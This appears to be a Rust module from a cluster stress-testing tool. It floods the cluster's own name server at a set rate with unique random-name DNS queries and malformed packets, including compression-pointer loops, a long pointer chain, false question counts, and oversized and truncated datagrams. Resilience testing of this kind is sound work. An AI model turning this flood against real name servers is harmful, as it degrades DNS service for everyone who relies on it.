//! A pod that means harm to its name server: datagrams that are no queries, or queries without end.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::net::UdpSocket;
use tokio::time::{Instant, MissedTickBehavior, interval};

use super::kinds::Attack;
use super::strike::{Done, Pace, Strike};

/// As large as a name server takes them.
const LARGEST: usize = 4096;

/// Sends at the pace; answers are read and forgotten.
pub(super) async fn flood(strike: &Strike, until: Instant) -> io::Result<Done> {
    let socket = UdpSocket::bind(SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0))).await?;
    socket.connect(strike.connect).await?;
    let mut done = Done { opened: 1, ..Done::default() };
    let mut pace = Pace::new(f64::from(strike.rate()));
    let mut tick = interval(Duration::from_millis(1));
    tick.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let mut buffer = vec![0; LARGEST];
    while Instant::now() < until {
        tick.tick().await;
        for _ in 0..pace.due() {
            let query = match strike.attack {
                Attack::DnsNames => distinct(done.steps),
                _ => garbage(done.steps),
            };
            // What the socket has no room for is lost, as datagrams are.
            match socket.try_send(&query) {
                Ok(_) => done.steps += 1,
                Err(_) => done.refused += 1,
            }
        }
        while socket.try_recv(&mut buffer).is_ok() {}
    }
    Ok(done)
}

/// A header: this id, a query with recursion desired, so many questions.
fn header(id: u16, questions: u16) -> Vec<u8> {
    let [id_high, id_low] = id.to_be_bytes();
    let [high, low] = questions.to_be_bytes();
    vec![id_high, id_low, 1, 0, high, low, 0, 0, 0, 0, 0, 0]
}

/// A name that nobody has asked for.
fn distinct(number: u64) -> Vec<u8> {
    let mut query = header(number as u16, 1);
    for label in [format!("n{number}"), "bench".into(), "svc".into(), "cluster".into(), "local".into()] {
        query.push(label.len() as u8);
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(&[0, 0, 1, 0, 1]);
    query
}

/// In turn: nonsense, a name that points to itself, two that point to each other, a chain of pointers, a promise of
/// 65,535 questions of which none comes, one of the largest size, one cut off, nothing but a header.
fn garbage(number: u64) -> Vec<u8> {
    let id = number as u16;
    let with = |mut query: Vec<u8>, rest: &[u8]| {
        query.extend_from_slice(rest);
        query
    };
    match number % 8 {
        0 => (0..64)
            .map(|byte: u64| (number.wrapping_mul(0x9e37_79b9).wrapping_add(byte * 31) >> 3) as u8)
            .collect(),
        1 => with(header(id, 1), &[0xc0, 12, 0, 1, 0, 1]),
        2 => with(header(id, 1), &[0xc0, 14, 0xc0, 12, 0, 1, 0, 1]),
        3 => {
            let mut query = header(id, 1);
            for at in 0..2_000u16 {
                let [high, low] = (12 + (at + 1) * 2).min(0x3fff).to_be_bytes();
                query.extend_from_slice(&[0xc0 | high, low]);
            }
            query
        }
        4 => header(id, u16::MAX),
        5 => {
            let mut query = header(id, 400);
            for _ in 0..400 {
                query.extend_from_slice(&[1, b'a', 0, 0, 1, 0, 1]);
            }
            query.resize(LARGEST, 0xff);
            query
        }
        6 => with(header(id, 1), &[63, b'a', b'b']),
        _ => header(id, 0),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn queries_are_what_they_should_be() {
        assert!((0..16).all(|number| garbage(number).len() <= LARGEST));
        assert_ne!(distinct(1)[12..], distinct(2)[12..]);
        assert_eq!(distinct(7).len(), 12 + 3 + 6 + 4 + 8 + 6 + 5);
    }
}
